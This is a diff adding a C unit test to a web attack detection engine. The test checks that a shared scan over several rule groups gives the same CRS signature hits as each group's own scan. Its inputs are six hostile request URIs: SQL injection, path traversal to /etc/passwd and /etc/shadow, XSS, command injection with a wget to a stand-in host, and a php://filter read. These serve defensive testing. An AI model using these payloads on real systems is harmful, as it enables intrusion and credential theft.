@@ -558,6 +558,45 @@ evaluate_debian_crs(void **state)
 			}
 		}
 	}
+
+	/* a text several groups' chains make alike is scanned once with
+	 * the databases of every group (the arguments' shared one too):
+	 * the same hits as each group's own scan */
+	assert_true(e.sig.big != NULL);
+	assert_true(e.sig.big_targets & (1u << CT_ARGS));
+	{
+		static const char *const uris[] = {
+		    "/index.php?id=1%27%20union%20select%201,2--",
+		    "/x?file=../../etc/passwd&cmd=cat+/etc/shadow",
+		    "/a?q=<script>alert(1)</script>&r=%3Cimg%20src=x%3E",
+		    "/p?x=system(%27ls%27)&y=;wget+http://e.test/a",
+		    "/q?a=1+OR+1=1&b=%2E%2E%5Cwindows%5Cwin.ini",
+		    "/cgi-bin/a.php?f=php://filter/convert.base64-encode"};
+		struct attack_result shared[6], own;
+		unsigned all = e.sig.all_targets, big = e.sig.big_targets;
+
+		attack_engine_memo(&e, 0);
+		for (size_t i = 0; i < 6; i++)
+			match(&e, "GET", uris[i], "Mozilla/5.0 (X11)",
+			    &shared[i]);
+		e.sig.all_targets = e.sig.big_targets = 0;
+		for (size_t i = 0; i < 6; i++) {
+			match(&e, "GET", uris[i], "Mozilla/5.0 (X11)", &own);
+			assert_true(own.crs_score > 0);
+			assert_int_equal(own.crs_score, shared[i].crs_score);
+			assert_int_equal(own.ncrs, shared[i].ncrs);
+			for (unsigned k = 0; k < own.ncrs; k++) {
+				assert_int_equal(
+				    own.crs[k].id, shared[i].crs[k].id);
+				assert_int_equal(
+				    own.crs[k].len, shared[i].crs[k].len);
+				assert_memory_equal(own.crs[k].text,
+				    shared[i].crs[k].text, own.crs[k].len);
+			}
+		}
+		e.sig.all_targets = all;
+		e.sig.big_targets = big;
+	}
 	attack_engine_release(&e);
 }
 
